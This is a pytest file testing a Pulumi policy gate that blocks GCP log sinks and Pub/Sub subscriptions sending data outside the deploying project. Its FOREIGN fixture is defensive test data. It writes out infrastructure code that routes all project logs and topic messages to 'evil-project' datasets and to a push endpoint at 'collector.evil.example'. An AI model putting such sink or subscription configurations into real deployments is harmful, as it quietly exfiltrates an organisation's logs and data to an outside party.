"""`agentid preview` end to end (red17 r17-7): log sinks and Pub/Sub subscriptions sending to another project or an
arbitrary host are AGID-GCP-033, mandatory; the same kinds sending to an own project, a bucket the stack names, a
stack topic by its id and the stack's Cloud Run service by its Output pass (the gate's mocks give those values)."""

from __future__ import annotations

import pytest

from .conftest import AGENT_GUARD, run_cli
from .test_k8s_admission_gate import project  # a one-file Python project in tmp_path

pytestmark = pytest.mark.skipif(not (AGENT_GUARD / "PulumiPolicy.yaml").is_file(), reason="agent_guard pack not present")

FOREIGN = """import pulumi_gcp as gcp
gcp.logging.ProjectSink("all-logs-out", name="all-logs", destination="pubsub.googleapis.com/projects/evil-project/topics/drop",
                        unique_writer_identity=True, project="acme-dev")
gcp.logging.ProjectSink("all-logs-bq", name="all-logs-bq", destination="bigquery.googleapis.com/projects/evil-project/datasets/drop",
                        unique_writer_identity=True, project="acme-dev")
topic = gcp.pubsub.Topic("agent-events", project="acme-dev")
gcp.pubsub.Subscription("push-out", topic=topic.id, project="acme-dev",
                        push_config={"push_endpoint": "https://collector.evil.example/in"})
gcp.pubsub.Subscription("bq-out", topic=topic.id, project="acme-dev", bigquery_config={"table": "evil-project.drop.messages"})
"""
OWN = """import pulumi, pulumi_gcp as gcp
topic = gcp.pubsub.Topic("agent-events", project="acme-dev")
dead = gcp.pubsub.Topic("dead", project="acme-dev")
bucket = gcp.storage.Bucket("archive", name="acme-dev-archive", location="US", project="acme-dev")
svc = gcp.cloudrunv2.Service("handler", location="us-central1", project="acme-dev",
    template={"containers": [{"image": "us-docker.pkg.dev/acme-dev/agents/h:1"}]})
gcp.logging.ProjectSink("own-logs", name="own-logs", destination="bigquery.googleapis.com/projects/acme-dev/datasets/logs",
                        unique_writer_identity=True, project="acme-dev")
gcp.logging.ProjectSink("topic-logs", name="topic-logs", project="acme-dev",
                        destination=pulumi.Output.concat("pubsub.googleapis.com/", topic.id))
gcp.logging.ProjectSink("bucket-logs", name="bucket-logs", project="acme-dev",
                        destination=pulumi.Output.concat("storage.googleapis.com/", bucket.name))
gcp.pubsub.Subscription("push-own", topic=topic.id, project="acme-dev",
                        push_config={"push_endpoint": svc.uri.apply(lambda u: f"{u}/push")})
gcp.pubsub.Subscription("gcs-own", topic=topic.id, project="acme-dev", cloud_storage_config={"bucket": bucket.name},
                        dead_letter_policy={"dead_letter_topic": dead.id})
gcp.pubsub.Subscription("bq-own", topic=topic.id, project="acme-dev", bigquery_config={"table": "acme-dev.drop.messages"})
"""


def _findings(tmp_path, program):
    tmp_path.mkdir()
    result = run_cli(project(tmp_path, program), "--stack", "dev", "--policy-pack", str(AGENT_GUARD),
                     "--own-gcp-project", "acme-dev", "--strict-unknowns", "--json", "gate.json")
    found = {(v["resourceName"], v["mandatory"]) for v in result.json("gate.json")["violations"]
             if v["policy"] == "AGID-GCP-033"}
    return result, found


def test_sinks_and_subscriptions_to_another_project_or_host_block(tmp_path):
    result, found = _findings(tmp_path / "foreign", FOREIGN)
    assert result.code == 1, result.stdout + result.stderr
    assert found == {("all-logs-out", True), ("all-logs-bq", True), ("push-out", True), ("bq-out", True)}


def test_own_project_stack_bucket_topic_and_service_pass(tmp_path):
    result, found = _findings(tmp_path / "own", OWN)
    assert found == set(), result.json("gate.json")["violations"]


PUSH = """import pulumi_gcp as gcp
topic = gcp.pubsub.Topic("agent-events", project="acme-dev")
gcp.pubsub.Subscription("push", topic=topic.id, project="acme-dev", push_config={"push_endpoint": "https://hooks.acme.example/in"})
"""


def test_a_push_endpoint_passes_only_on_a_host_the_gate_lists(tmp_path):
    (tmp_path / "listed").mkdir()
    listed = run_cli(project(tmp_path / "listed", PUSH), "--stack", "dev", "--policy-pack", str(AGENT_GUARD),
                     "--own-gcp-project", "acme-dev", "--own-host", "Hooks.Acme.Example", "--json", "gate.json")
    assert [v for v in listed.json("gate.json")["violations"] if v["policy"] == "AGID-GCP-033"] == []
    [line] = [line for line in listed.stdout.splitlines() if line.strip().startswith("ownHosts: agent-guard:")]
    assert "hooks.acme.example (" in line and "AGID-GCP-033" in line, line  # every rule taking ownHosts is named
    _, found = _findings(tmp_path / "unlisted", PUSH)
    assert found == {("push", True)}
    (tmp_path / "bad").mkdir()
    bad = run_cli(project(tmp_path / "bad", PUSH), "--stack", "dev", "--own-host", "https://hooks.acme.example/")
    assert bad.code == 2 and "--own-host" in bad.stdout + bad.stderr
